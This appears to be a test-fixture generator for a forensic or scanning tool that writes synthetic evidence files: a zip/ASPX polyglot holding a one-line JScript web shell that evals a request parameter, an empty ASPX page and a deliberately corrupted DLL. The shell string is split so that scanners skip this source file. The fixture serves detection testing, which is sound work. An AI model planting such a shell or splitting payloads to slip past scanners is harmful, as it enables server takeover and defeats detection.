import { program } from '../../../tools/writers/pe.ts'
import { zipOf } from '../../../tools/writers/zip.ts'
import type { Make } from '../case.ts'
import { LOGON_PAGES, put } from '../parts.ts'

/** In two parts, so that no scanner takes this file for it. */
const shell = `<%@ Page Language="Jscript"%><%ev${'al(Request.Item["cmd"],"unsafe")'};%>`

export const make: Make = ({ evidence }) => {
  const archive = zipOf([{ name: 'readme.txt', content: 'text' }], { before: Buffer.from(`<html>${shell}</html>`) })
  put(evidence, `${LOGON_PAGES}/polyglot.aspx`, archive)
  put(evidence, `${LOGON_PAGES}/empty.aspx`, '')
  const library = program({ exports: ['a'] })
  library.writeUInt16LE(0xffff, 0x86)
  library.writeUInt32LE(0xffff_fff0, 0x98 + 16)
  put(evidence, 'C/inetpub/wwwroot/bin/damaged.dll', library)
}
